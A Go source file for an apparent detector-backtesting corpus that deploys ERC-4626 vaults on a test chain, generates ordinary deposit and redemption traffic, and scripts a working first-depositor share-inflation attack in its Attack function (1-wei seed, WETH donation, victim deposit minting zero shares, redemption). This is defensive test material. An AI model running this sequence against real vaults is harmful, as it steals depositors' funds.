// Package inflation is the corpus scenario `erc4626-share-inflation`: an
// ERC-4626 vault (SimpleYieldVault) without virtual shares. An established
// WETH vault carries the benign traffic; a second, freshly listed WETH vault
// (a new market, deployed empty) is hit by the first-depositor attack: mint
// one share for 1 wei, donate WETH straight to the vault, let the first real
// deposit round down to zero shares, redeem everything (Hundred Finance and
// Sonne Finance, 2023).
package inflation

import (
	"context"
	"crypto/ecdsa"
	"fmt"
	"math/big"
	"math/rand/v2"

	"github.com/ethereum/go-ethereum/accounts/abi/bind/v2"
	"github.com/ethereum/go-ethereum/common"
	"github.com/ethereum/go-ethereum/common/math"
	"github.com/ethereum/go-ethereum/crypto"

	"github.com/warden-dev/warden/contracts/bindings/simpleyieldvault"
	"github.com/warden-dev/warden/contracts/bindings/weth9"
	"github.com/warden-dev/warden/detect/backtest/corpus"
)

var (
	vaultABI   = simpleyieldvault.NewSimpleYieldVault()
	wethABI    = weth9.NewWETH9()
	keeperRole = crypto.Keccak256Hash([]byte("KEEPER_ROLE"))
)

// Gas limits, a few times what each call was measured to use.
const (
	gasWrap     = 150_000
	gasApprove  = 100_000
	gasTransfer = 150_000
	gasDeposit  = 300_000
	gasRedeem   = 300_000
	gasAdmin    = 150_000
	keepers     = 2
)

var (
	// victimDeposit is the first real deposit into the new market.
	victimDeposit = corpus.Ether(100)
	depositCap    = corpus.Ether(100_000)
)

type scenario struct{}

// New returns the scenario.
func New() corpus.Scenario { return scenario{} }

func (scenario) Name() string     { return "erc4626-share-inflation" }
func (scenario) Category() string { return "share-inflation" }

// state tracks wallets and shares as of the transactions sent so far; share
// counts are lower bounds (a deposit's shares depend on the price when it
// is mined, which only rises).
type state struct {
	weth, vault, market common.Address
	wallet, shares      []*big.Int // per user: WETH, shares of vault
	keepers             []*ecdsa.PrivateKey
	keeperWETH          []*big.Int
	reporters           []int // indices into keepers seen holding KEEPER_ROLE; -1 = the Deployer
	granted             []int // keepers granted KEEPER_ROLE, not yet seen on chain
	deployerWETH        *big.Int
}

// Deploy deploys WETH9, the established vault ("Yield WETH", yvWETH) and the
// new market ("Yield WETH v2", yvWETH2, left empty; the last user has
// approved it and holds 100 WETH, waiting for the launch). Users wrap ETH
// and deposit into the established vault; the whale (Users[0]) 3,000 WETH.
func (scenario) Deploy(ctx context.Context, env *corpus.Env, rng *rand.Rand) (*corpus.Deployment, error) {
	if len(env.Users) < 3 {
		return nil, fmt.Errorf("inflation: need at least 3 users, have %d", len(env.Users))
	}
	admin := corpus.Address(env.Deployer)
	st := &state{reporters: []int{-1}, deployerWETH: corpus.Ether(500)}
	var err error
	deploy := func(what string, meta *bind.MetaData, args ...any) common.Address {
		if err != nil {
			return common.Address{}
		}
		var a common.Address
		if a, _, err = env.Deploy(ctx, env.Deployer, meta, args...); err != nil {
			err = fmt.Errorf("inflation: deploy %s: %w", what, err)
		}
		return a
	}
	st.weth = deploy("WETH9", &weth9.WETH9MetaData)
	st.vault = deploy("SimpleYieldVault", &simpleyieldvault.SimpleYieldVaultMetaData, st.weth, "Yield WETH", "yvWETH", admin, depositCap)
	st.market = deploy("SimpleYieldVault (new market)", &simpleyieldvault.SimpleYieldVaultMetaData, st.weth, "Yield WETH v2", "yvWETH2", admin, depositCap)
	if err != nil {
		return nil, err
	}
	calls := []corpus.Call{
		corpus.Tx(env.Deployer, st.weth, wethABI.PackDeposit(), st.deployerWETH, gasWrap),
		corpus.Tx(env.Deployer, st.weth, wethABI.PackApprove(st.vault, math.MaxBig256), nil, gasApprove),
	}
	admins := []common.Address{admin}
	for i := range keepers {
		k, err := crypto.ToECDSA(crypto.Keccak256([]byte(fmt.Sprintf("warden corpus erc4626-share-inflation keeper %d", i))))
		if err != nil {
			return nil, fmt.Errorf("inflation: derive keeper key %d: %w", i, err)
		}
		st.keepers = append(st.keepers, k)
		st.keeperWETH = append(st.keeperWETH, corpus.Ether(100))
		admins = append(admins, corpus.Address(k))
		calls = append(calls, corpus.Tx(env.Deployer, corpus.Address(k), nil, corpus.Ether(110), 50_000))
	}
	last := len(env.Users) - 1
	for i, u := range env.Users {
		amount := corpus.RandEther(rng, 20, 300)
		if i == 0 {
			amount = corpus.Ether(3_000)
		}
		st.wallet = append(st.wallet, amount)
		st.shares = append(st.shares, new(big.Int))
		wrap := new(big.Int).Set(amount)
		if i == last {
			wrap.Add(wrap, victimDeposit) // kept aside for the new market
			calls = append(calls, corpus.Tx(u, st.weth, wethABI.PackApprove(st.market, math.MaxBig256), nil, gasApprove))
		}
		calls = append(calls,
			corpus.Tx(u, st.weth, wethABI.PackDeposit(), wrap, gasWrap),
			corpus.Tx(u, st.weth, wethABI.PackApprove(st.vault, math.MaxBig256), nil, gasApprove),
		)
	}
	if err := env.SendAll(ctx, "fund keepers and users", calls); err != nil {
		return nil, err
	}
	calls = nil
	for _, k := range st.keepers {
		calls = append(calls,
			corpus.Tx(k, st.weth, wethABI.PackDeposit(), corpus.Ether(100), gasWrap),
			corpus.Tx(k, st.weth, wethABI.PackApprove(st.vault, math.MaxBig256), nil, gasApprove),
		)
	}
	if err := env.SendAll(ctx, "keepers wrap and approve", calls); err != nil {
		return nil, err
	}
	// Deposits one by one: the share price must be read after each.
	for i := range env.Users {
		h, err := st.deposit(ctx, env, i, corpus.Percent(st.wallet[i], 60+rng.IntN(40)))
		if err != nil {
			return nil, err
		}
		if err := env.WaitAll(ctx, []common.Hash{h}); err != nil {
			return nil, fmt.Errorf("inflation: user %d deposits: %w", i, err)
		}
	}
	return &corpus.Deployment{
		Contracts: []corpus.Contract{
			corpus.ContractOf("SimpleYieldVault", st.vault, &simpleyieldvault.SimpleYieldVaultMetaData),
			corpus.ContractOf("SimpleYieldVault v2 (new market)", st.market, &simpleyieldvault.SimpleYieldVaultMetaData),
			corpus.ContractOf("WETH9", st.weth, &weth9.WETH9MetaData),
		},
		Admins: admins,
		State:  st,
	}, nil
}

// Benign sends one ordinary action on the established vault: deposits,
// redemptions, share transfers, wrapping and unwrapping, keepers reporting
// yield (WETH paid into the vault, the legitimate cousin of a donation),
// the whale withdrawing most of its position and depositing again, and
// rarely the admin changing the cap or adding a keeper.
func (scenario) Benign(ctx context.Context, env *corpus.Env, d *corpus.Deployment, rng *rand.Rand) ([]common.Hash, error) {
	st, ok := d.State.(*state)
	if !ok {
		return nil, fmt.Errorf("inflation: deployment state is %T, not from this scenario", d.State)
	}
	// A keeper reports yield only once its role grant is seen on chain:
	// blocks do not reliably order one sender's transactions after another's.
	waiting := st.granted[:0]
	for _, k := range st.granted {
		has, err := bind.Call(vaultABI.Instance(env.Client, st.vault), &bind.CallOpts{Context: ctx}, vaultABI.PackHasRole(keeperRole, corpus.Address(st.keepers[k])), vaultABI.UnpackHasRole)
		if err != nil {
			return nil, fmt.Errorf("inflation: read KEEPER_ROLE: %w", err)
		}
		if has {
			st.reporters = append(st.reporters, k)
		} else {
			waiting = append(waiting, k)
		}
	}
	st.granted = waiting
	u := 1 + rng.IntN(len(env.Users)-1)
	other := rng.IntN(len(env.Users))
	me := corpus.Address(env.Users[u])
	var h common.Hash
	var err error
	switch r := rng.Float64(); {
	case r < 0.28 && st.wallet[u].Cmp(corpus.Ether(1)) > 0:
		h, err = st.deposit(ctx, env, u, corpus.Percent(st.wallet[u], 10+rng.IntN(91)))
	case r < 0.50 && st.shares[u].Cmp(corpus.Ether(1)) > 0:
		shares := corpus.Percent(st.shares[u], 10+rng.IntN(91))
		assets, cerr := st.call(ctx, env, vaultABI.PackConvertToAssets(shares), vaultABI.UnpackConvertToAssets)
		if cerr != nil {
			return nil, cerr
		}
		h, err = env.Call(ctx, env.Users[u], st.vault, vaultABI.PackRedeem(shares, me, me), nil, gasRedeem)
		if err == nil {
			st.shares[u].Sub(st.shares[u], shares)
			st.wallet[u].Add(st.wallet[u], assets) // the price only rises: a lower bound
		}
	case r < 0.60:
		amount := corpus.RandEther(rng, 1, 30)
		h, err = env.Call(ctx, env.Users[u], st.weth, wethABI.PackDeposit(), amount, gasWrap)
		if err == nil {
			st.wallet[u].Add(st.wallet[u], amount)
		}
	case r < 0.68 && st.shares[u].Cmp(corpus.Ether(1)) > 0:
		shares := corpus.Percent(st.shares[u], 5+rng.IntN(50))
		h, err = env.Call(ctx, env.Users[u], st.vault, vaultABI.PackTransfer(corpus.Address(env.Users[other]), shares), nil, gasTransfer)
		if err == nil {
			st.shares[u].Sub(st.shares[u], shares)
			// The recipient is not credited: another sender's transaction
			// may be mined before this one, so it must not spend it.
		}
	case r >= 0.68 && r < 0.76:
		who := st.reporters[rng.IntN(len(st.reporters))]
		amount := corpus.RandEther(rng, 0, 2)
		key, funds := env.Deployer, st.deployerWETH
		if who >= 0 {
			key, funds = st.keepers[who], st.keeperWETH[who]
		}
		if funds.Cmp(amount) < 0 {
			h, err = st.wrapFallback(ctx, env, u, rng)
			break
		}
		h, err = env.Call(ctx, key, st.vault, vaultABI.PackReportYield(amount), nil, gasDeposit)
		if err == nil {
			funds.Sub(funds, amount)
		}
	case r < 0.81 && st.shares[0].Cmp(corpus.Ether(500)) > 0:
		// The whale withdraws 40-80% of its position by assets: large and legitimate.
		value, cerr := st.call(ctx, env, vaultABI.PackConvertToAssets(st.shares[0]), vaultABI.UnpackConvertToAssets)
		if cerr != nil {
			return nil, cerr
		}
		assets := corpus.Percent(value, 40+rng.IntN(41))
		shares, cerr := st.call(ctx, env, vaultABI.PackPreviewWithdraw(assets), vaultABI.UnpackPreviewWithdraw)
		if cerr != nil {
			return nil, cerr
		}
		whale := corpus.Address(env.Users[0])
		h, err = env.Call(ctx, env.Users[0], st.vault, vaultABI.PackWithdraw(assets, whale, whale), nil, gasRedeem)
		if err == nil {
			st.shares[0].Sub(st.shares[0], shares)
			st.wallet[0].Add(st.wallet[0], assets)
		}
	case r < 0.86 && st.wallet[0].Cmp(corpus.Ether(100)) > 0:
		h, err = st.deposit(ctx, env, 0, corpus.Percent(st.wallet[0], 50+rng.IntN(51)))
	case r < 0.90 && st.wallet[u].Cmp(corpus.Ether(1)) > 0:
		amount := corpus.Percent(st.wallet[u], 10+rng.IntN(50))
		h, err = env.Call(ctx, env.Users[u], st.weth, wethABI.PackWithdraw(amount), nil, gasWrap)
		if err == nil {
			st.wallet[u].Sub(st.wallet[u], amount)
		}
	case r >= 0.97 && r < 0.985:
		h, err = env.Call(ctx, env.Deployer, st.vault, vaultABI.PackSetDepositCap(corpus.Ether(int64(50_000+10_000*rng.IntN(6)))), nil, gasAdmin)
	case r >= 0.985 && len(st.reporters)+len(st.granted) <= len(st.keepers):
		k := len(st.reporters) + len(st.granted) - 1
		h, err = env.Call(ctx, env.Deployer, st.vault, vaultABI.PackGrantRole(keeperRole, corpus.Address(st.keepers[k])), nil, gasAdmin)
		if err == nil {
			st.granted = append(st.granted, k)
		}
	default:
		h, err = st.wrapFallback(ctx, env, u, rng)
	}
	if err != nil {
		return nil, fmt.Errorf("inflation: benign step: %w", err)
	}
	return []common.Hash{h}, nil
}

// Attack hits the new market before its first real deposit: mint 1 share
// for 1 wei, donate 100 WETH, let the waiting user's 100 WETH deposit round
// to zero shares, and redeem the single share for everything.
//
// The victim's deposit is sent here too (it is what the attacker waits
// for) but is not returned: it is an ordinary user's transaction, not the
// attacker's.
func (scenario) Attack(ctx context.Context, env *corpus.Env, d *corpus.Deployment, rng *rand.Rand) ([]corpus.AttackTx, error) {
	st, ok := d.State.(*state)
	if !ok {
		return nil, fmt.Errorf("inflation: deployment state is %T, not from this scenario", d.State)
	}
	me := corpus.Address(env.Attacker)
	donation := new(big.Int).Set(victimDeposit)
	seed := big.NewInt(1)
	var txs []corpus.AttackTx
	step := func(stage corpus.Stage, to common.Address, data []byte, value *big.Int, note string) error {
		r, err := env.CallAndWait(ctx, env.Attacker, to, data, value, gasDeposit)
		if r != nil {
			txs = append(txs, corpus.AttackTx{Hash: r.TxHash, Stage: stage, Note: note})
		}
		if err != nil {
			return fmt.Errorf("inflation: %s: %w", note, err)
		}
		return nil
	}
	if err := step(corpus.StagePreparation, st.weth, wethABI.PackDeposit(), new(big.Int).Add(donation, seed), "wrap ETH"); err != nil {
		return txs, err
	}
	// Profit is counted from here, once the attacker's ETH is WETH.
	before, err := st.wethBalance(ctx, env, me)
	if err != nil {
		return txs, err
	}
	if err := step(corpus.StagePreparation, st.weth, wethABI.PackApprove(st.market, math.MaxBig256), nil, "approve the new market"); err != nil {
		return txs, err
	}
	if err := step(corpus.StagePreparation, st.market, vaultABI.PackDeposit(seed, me), nil, "first deposit: 1 wei for 1 share"); err != nil {
		return txs, err
	}
	if err := step(corpus.StageExploit, st.weth, wethABI.PackTransfer(st.market, donation), nil, "donate 100 WETH to the vault: 1 share is now worth 100 WETH"); err != nil {
		return txs, err
	}
	victim := env.Users[len(env.Users)-1]
	// The victim's own deposit is where the value is taken (it mints zero
	// shares), so it is labelled part of the exploit although the victim
	// sends it: an alert on it is an alert on the attack in progress.
	vr, err := env.CallAndWait(ctx, victim, st.market, vaultABI.PackDeposit(victimDeposit, corpus.Address(victim)), nil, gasDeposit)
	if vr != nil {
		txs = append(txs, corpus.AttackTx{Hash: vr.TxHash, Stage: corpus.StageExploit, Note: "the victim's deposit into the inflated market mints zero shares"})
	}
	if err != nil {
		return txs, fmt.Errorf("inflation: the victim's deposit: %w", err)
	}
	if err := step(corpus.StageExploit, st.market, vaultABI.PackRedeem(big.NewInt(1), me, me), nil, "redeem the single share for the donation and the victim's deposit"); err != nil {
		return txs, err
	}
	after, err := st.wethBalance(ctx, env, me)
	if err != nil {
		return txs, err
	}
	if after.Cmp(before) <= 0 {
		return txs, fmt.Errorf("inflation: attack left the attacker with %s WETH wei, had %s", after, before)
	}
	return txs, nil
}

func (st *state) deposit(ctx context.Context, env *corpus.Env, u int, assets *big.Int) (common.Hash, error) {
	shares, err := st.call(ctx, env, vaultABI.PackPreviewDeposit(assets), vaultABI.UnpackPreviewDeposit)
	if err != nil {
		return common.Hash{}, err
	}
	me := corpus.Address(env.Users[u])
	h, err := env.Call(ctx, env.Users[u], st.vault, vaultABI.PackDeposit(assets, me), nil, gasDeposit)
	if err != nil {
		return common.Hash{}, fmt.Errorf("inflation: user %d deposits %s: %w", u, assets, err)
	}
	st.wallet[u].Sub(st.wallet[u], assets)
	// Yield mined before this deposit lowers its shares; 97% is a safe floor.
	st.shares[u].Add(st.shares[u], corpus.Percent(shares, 97))
	return h, nil
}

func (st *state) wrapFallback(ctx context.Context, env *corpus.Env, u int, rng *rand.Rand) (common.Hash, error) {
	amount := corpus.RandEther(rng, 0, 5)
	h, err := env.Call(ctx, env.Users[u], st.weth, wethABI.PackDeposit(), amount, gasWrap)
	if err == nil {
		st.wallet[u].Add(st.wallet[u], amount)
	}
	return h, err
}

func (st *state) call(ctx context.Context, env *corpus.Env, data []byte, unpack func([]byte) (*big.Int, error)) (*big.Int, error) {
	v, err := bind.Call(vaultABI.Instance(env.Client, st.vault), &bind.CallOpts{Context: ctx}, data, unpack)
	if err != nil {
		return nil, fmt.Errorf("inflation: read vault %s: %w", st.vault, err)
	}
	return v, nil
}

func (st *state) wethBalance(ctx context.Context, env *corpus.Env, who common.Address) (*big.Int, error) {
	v, err := bind.Call(wethABI.Instance(env.Client, st.weth), &bind.CallOpts{Context: ctx}, wethABI.PackBalanceOf(who), wethABI.UnpackBalanceOf)
	if err != nil {
		return nil, fmt.Errorf("inflation: WETH balance of %s: %w", who, err)
	}
	return v, nil
}
